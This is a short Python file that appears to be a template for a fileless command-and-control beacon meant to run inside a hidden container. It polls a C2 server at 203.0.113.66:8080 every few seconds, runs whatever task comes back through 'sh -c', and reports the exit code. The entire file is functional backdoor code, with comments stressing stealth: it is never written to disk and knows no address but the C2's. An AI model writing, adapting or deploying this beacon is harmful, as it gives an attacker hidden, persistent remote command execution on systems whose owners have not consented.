# What the hidden pod's interpreter runs, fetched and never written to a disk: it asks the C2 for a task every few seconds,
# and does what it is told. It knows no address but the C2's, and gives up when that is gone.
import subprocess
import time
import urllib.request

C2 = "http://203.0.113.66:8080"
INTERVAL = @INTERVAL@
done, failures = "", 0
while failures < 20:
    if done == "":
        time.sleep(INTERVAL)
    try:
        with urllib.request.urlopen(f"{C2}/beat?done={done}", timeout=10) as reply:
            task = reply.read().decode()
        done, failures = "", 0
    except OSError:
        failures += 1
        time.sleep(INTERVAL)
        continue
    if task:
        done = subprocess.run(["sh", "-c", task]).returncode
